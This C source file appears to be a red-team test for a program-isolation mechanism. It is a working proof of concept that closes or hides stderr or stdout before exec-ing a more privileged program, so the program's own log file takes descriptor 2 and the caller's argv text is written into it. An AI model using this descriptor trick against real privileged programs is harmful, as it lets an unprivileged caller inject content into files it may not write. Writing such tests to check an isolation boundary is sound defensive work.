/* table_stdfd.c: an exec into a program's table with descriptor 0, 1 or 2 closed (red team 34).
 *
 * An exec into another table is a change of privilege, as a set-user-ID exec is.  A
 * set-user-ID program started with stderr closed gets /dev/null there from the C library
 * (secure mode), so its own files cannot take the number.  No table switch sets secure
 * mode: the program's first open takes descriptor 2, and what it then writes to "stderr" --
 * the caller's text, its argv -- lands in a file its table may write and the caller's may
 * not.
 *
 *   table_stdfd attack VICTIM LOG closed|cloexec|stdout
 *       fork; the child closes descriptor 2 (or marks it close-on-exec; or closes 1) and
 *       execs VICTIM (this program, copied where a table names it) with a payload in its
 *       argv; ESCAPED when LOG then holds the payload.
 *   table_stdfd check LOG
 *       ESCAPED when LOG holds the payload (after a shell ran "VICTIM victim LOG TEXT 2>&-":
 *       its exec is a vfork child's, which the native loop may let go by itself).
 *   table_stdfd victim LOG TEXT
 *       the program with a table of its own: appends a line to LOG, then says on stderr
 *       (and stdout) what it ignored -- TEXT.
 */
#include "attack.h"

static int victim(const char *log, const char *text) {
    int fd = open(log, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (fd < 0) {
        perror("open");
        return 1;
    }
    dprintf(fd, "stamp\n");
    fprintf(stderr, "stamp: ignoring %s\n", text);
    fflush(stderr);
    fprintf(stdout, "stamp: done with %s\n", text);
    fflush(stdout);
    return 0;
}

static void check(const char *log) {
    char buf[4096] = {0};
    int fd = open(log, O_RDONLY);
    if (fd < 0) blocked("log unreadable: %s", ename(errno));
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strstr(buf, PAYLOAD_MAGIC)) {
        escaped("the program's table wrote the caller's text into %s", log);
    }
    blocked("the log holds no payload");
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "victim") == 0) return victim(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "check") == 0) check(argv[2]);
    if (argc != 5 || strcmp(argv[1], "attack") != 0) {
        blocked("usage: table_stdfd attack VICTIM LOG closed|cloexec|stdout");
    }
    const char *prog = argv[2], *log = argv[3], *how = argv[4];
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) blocked("pipe: %s", ename(errno));
    pid_t pid = fork();
    if (pid < 0) blocked("fork: %s", ename(errno));
    if (pid == 0) {
        int fd = strcmp(how, "stdout") == 0 ? 1 : 2;
        if (strcmp(how, "cloexec") == 0) {
            fcntl(fd, F_SETFD, FD_CLOEXEC);
        } else {
            close(fd);
        }
        execl(prog, prog, "victim", log, "\n" PAYLOAD_MAGIC "\n", (char *)NULL);
        int e = errno;
        (void)!write(pipefd[1], &e, sizeof e);
        _exit(126);
    }
    close(pipefd[1]);
    int e = 0;
    if (read(pipefd[0], &e, sizeof e) != (ssize_t)sizeof e) e = 0;
    int status;
    waitpid(pid, &status, 0);
    char buf[4096] = {0};
    int fd = open(log, O_RDONLY);
    if (fd < 0) blocked("exec: %s; log unreadable: %s", e ? ename(e) : "ran", ename(errno));
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strstr(buf, PAYLOAD_MAGIC)) {
        escaped("the program's table wrote the caller's text into %s (descriptor %s)", log, how);
    }
    blocked("exec: %s; the log holds no payload", e ? ename(e) : "ran");
}
